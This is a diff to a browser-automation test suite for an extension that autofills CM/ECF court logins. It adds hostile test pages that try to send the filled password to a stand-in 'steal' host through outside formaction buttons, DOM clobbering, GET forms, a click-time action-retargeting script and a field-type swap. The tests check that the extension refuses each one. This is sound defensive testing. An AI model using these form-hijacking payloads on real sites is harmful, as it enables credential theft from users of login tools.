@@ -31,12 +31,12 @@ MENU = ('<div id="topmenu" class="yuimenubar"><div class="bd"><ul class="first-o
 
 
 def link_form(action="/cgi-bin/LinkAcct.pl", login_attrs="", password_attrs="", password_type="password",
-              wrapper_style="", submit_attrs="") -> str:
-    return (f'<form method="post" action="{action}"><div style="{wrapper_style}">'
+              wrapper_style="", submit_attrs="", form_attrs="", method="post", inside="") -> str:
+    return (f'<form method="{method}" action="{action}" {form_attrs}><div style="{wrapper_style}">'
             '<h3>Link a CM/ECF account to my PACER account</h3>'
             f'<p><label>CM/ECF login <input type="text" name="ecf_login" {login_attrs}></label></p>'
             f'<p><label>CM/ECF password <input type="{password_type}" name="ecf_password" {password_attrs}></label></p>'
-            f'<p><input type="submit" value="Submit" {submit_attrs}></p></div></form>')
+            f'{inside}<p><input type="submit" value="Submit" {submit_attrs}></p></div></form>')
 
 
 def page(content: str, script: str = "") -> str:
@@ -64,6 +64,18 @@ new MutationObserver(() => {
   document.documentElement.append(decoy);
 }).observe(document.documentElement, {childList: true});"""
 FADE = "document.documentElement.style.opacity = '0.05';"
+STEAL = "https://www.example-firm.test/steal"
+# Changes the form's action once the click has reached ecflink's overlay: while ecflink asks its
+# helper app for the login (usually), or before ecflink's first check (if the page is slow).
+RETARGET = f"""
+document.addEventListener("click", (event) => {{
+  if (event.target.matches?.("[data-ecflink]")) setTimeout(() => document.forms[0].setAttribute("action", "{STEAL}"));
+}}, true);"""
+# On the login field's first input event (ecflink's fill), shows the password field as text.
+SWAP = """
+document.querySelector("[name=ecf_login]").addEventListener("input", () => {
+  document.querySelector("[name=ecf_password]").type = "text";
+}, {once: true});"""
 
 
 @dataclass(frozen=True)
@@ -75,6 +87,9 @@ class Attack:
     # the browser does not draw are not a link form at all, so no button is offered there
     click: str = "when-active"  # or "at-once" or "never"
     headers: list = field(default_factory=list)
+    refusal: str = ""  # what the overlay's note must say after the click
+    released: bool | None = False  # the host releases the login to ecflink's own content script, which
+    # then refuses the page (it changed between the click and the fill); None: either may happen
 
 
 FRAME_PAGE = page("<p>Welcome.</p>") .replace("</div></body>", "{frame}</div></body>")
@@ -118,8 +133,54 @@ ATTACKS = [
     Attack("overlay covered by a decoy", f"{COURT}/cgi-bin/LinkAcct.pl?a14", page(link_form(), COVER), True),
     Attack("page made transparent", f"{COURT}/cgi-bin/LinkAcct.pl?a15", page(link_form(), FADE), True),
     Attack("click before the button is active", f"{COURT}/cgi-bin/LinkAcct.pl?a16", page(link_form()), True, "at-once"),
+    # Judged as the browser submits (security audit F1, F2, F10, F11; its attack pages 1-5, 9, 10).
+    Attack("submit button outside the form", f"{COURT}/cgi-bin/LinkAcct.pl?f1",
+           page(link_form(form_attrs='id="lf"') + f'<button form="lf" formaction="{STEAL}">Submit</button>'), True,
+           refusal="a button in the form would send your login to another site."),
+    Attack("off-screen default button before the form", f"{COURT}/cgi-bin/LinkAcct.pl?f2",
+           page(f'<input type="submit" form="lf" formaction="{STEAL}" style="position:absolute;left:-9999px">'
+                + link_form(form_attrs='id="lf"')), True,
+           refusal="a button in the form would send your login to another site."),
+    Attack("fields owned by another form", f"{COURT}/cgi-bin/LinkAcct.pl?f3",
+           page(f'<form id="x" method="post" action="{STEAL}"></form>' + link_form(
+               login_attrs='form="x"', password_attrs='form="x"', submit_attrs='form="x"')), True,
+           refusal="the form would send your login to another site."),
+    Attack("action clobbered by a field named action", f"{COURT}/cgi-bin/LinkAcct.pl?f4",
+           page(link_form(action=STEAL, inside='<input type="hidden" name="action">')), True,
+           refusal="the form would send your login to another site."),
+    Attack("form.elements clobbered", f"{COURT}/cgi-bin/LinkAcct.pl?f5",
+           page(link_form(action=STEAL, inside='<input type="hidden" name="elements"><input type="hidden" '
+                                               'name="querySelectorAll"><input type="hidden" name="method">')), True,
+           refusal="the form would send your login to another site."),
+    Attack("GET form", f"{COURT}/cgi-bin/LinkAcct.pl?f6", page(link_form(method="get")), True,
+           refusal="the form would put your login in the page address."),
+    Attack("submit button with formmethod=get", f"{COURT}/cgi-bin/LinkAcct.pl?f7",
+           page(link_form(submit_attrs='formmethod="get"')), True,
+           refusal="a button in the form would put your login in the page address."),
+    Attack("submit button with a formtarget", f"{COURT}/cgi-bin/LinkAcct.pl?f8",
+           page(link_form(submit_attrs='formtarget="stolen"')), True,
+           refusal="a button in the form would send your login to another window."),
+    Attack("javascript: action", f"{COURT}/cgi-bin/LinkAcct.pl?f9", page(link_form(action="javascript:void(0)")), True,
+           refusal="the form would send your login to another site."),
+    Attack("a plain button element posting elsewhere", f"{COURT}/cgi-bin/LinkAcct.pl?f10",
+           page(link_form(inside=f'<button formaction="{STEAL}">Check</button>')), True,
+           refusal="a button in the form would send your login to another site."),
+    Attack("retargeted between click and fill", f"{COURT}/cgi-bin/LinkAcct.pl?f11", page(link_form(), RETARGET), True,
+           refusal="the form would send your login to another site.", released=None),
+    Attack("fields swapped during fill", f"{COURT}/cgi-bin/LinkAcct.pl?f12", page(link_form(), SWAP), True,
+           refusal="ecflink did not fill this form", released=True),
 ]
 CONTROL = Attack("control: the genuine form", f"{COURT}/cgi-bin/LinkAcct.pl?control", page(link_form()), True)
+# Fields and Submit that stand outside their form but belong to it (form=, as a table layout may
+# need): the browser posts them with the form, to the court, so ecflink fills.
+OWNED_CONTROL = Attack(
+    "control: fields tied to the form by form=", f"{COURT}/cgi-bin/LinkAcct.pl?control2",
+    page('<form id="lf" method="post" action="/cgi-bin/LinkAcct.pl"></form>'
+         '<h3>Link a CM/ECF account to my PACER account</h3><table>'
+         '<tr><td><label for="l">CM/ECF login</label></td><td><input id="l" type="text" name="ecf_login" form="lf"></td></tr>'
+         '<tr><td><label for="p">CM/ECF password</label></td><td><input id="p" type="password" name="ecf_password" '
+         'form="lf"></td></tr></table><p><input type="submit" value="Submit" form="lf"></p>'), True)
+CONTROLS = [CONTROL, OWNED_CONTROL]
 SAME_ORIGIN_FORM = f"{COURT}/cgi-bin/LinkAcct.pl?framed"
 
 
@@ -140,7 +201,7 @@ def serve(attacks: list[Attack]):
 def armed_browser(request, network, keyring_daemon, tmp_path_factory):
     """One browser for the whole matrix, its host holding the TXWD login in the keyring."""
     require_browser(request.param)
-    network.app = serve(ATTACKS + [CONTROL])
+    network.app = serve(ATTACKS + CONTROLS)
     with launch(request.param, tmp_path_factory.mktemp(request.param), network) as session:
         store = CredentialStore(session.data_dir / "credentials.json")
         store.set("txwd", LOGIN, SECRET)
@@ -157,6 +218,11 @@ def overlay_button(driver):
     buttons = hosts[0].shadow_root.find_elements(By.CSS_SELECTOR, ".action")
     shown = buttons[0] if buttons and buttons[0].is_displayed() else None
     return shown if shown and shown.text == "Fill CM/ECF login" else None
+
+
+def overlay_note(driver) -> str:
+    hosts = driver.find_elements(By.CSS_SELECTOR, "[data-ecflink=overlay]")
+    return hosts[0].shadow_root.find_element(By.CSS_SELECTOR, ".note").text if hosts else ""
 
 
 def field_values(driver) -> list[str]:
@@ -201,15 +267,19 @@ def try_attack(session, attack: Attack) -> tuple[bool, str]:
 def test_attack_gets_no_fill_and_no_secret(armed_browser, attack):
     offered, log = try_attack(armed_browser, attack)
     assert offered == attack.offered
-    assert "fill: released" not in log
+    assert attack.released is None or ("fill: released" in log) == attack.released
     assert SECRET not in field_values(armed_browser.driver)
+    if attack.refusal:
+        assert attack.refusal in overlay_note(armed_browser.driver)
 
 
 def test_matrix_is_large_enough():
     assert len(ATTACKS) >= 20
 
 
-def test_control_the_genuine_form_is_filled(armed_browser):
-    offered, log = try_attack(armed_browser, CONTROL)
+@pytest.mark.parametrize("control", CONTROLS, ids=[c.name for c in CONTROLS])
+def test_control_the_genuine_form_is_filled(armed_browser, control):
+    offered, log = try_attack(armed_browser, control)
     assert offered and "fill: released the txwd CM/ECF login" in log
     assert SECRET in field_values(armed_browser.driver)
+    assert "Filled." in overlay_note(armed_browser.driver)
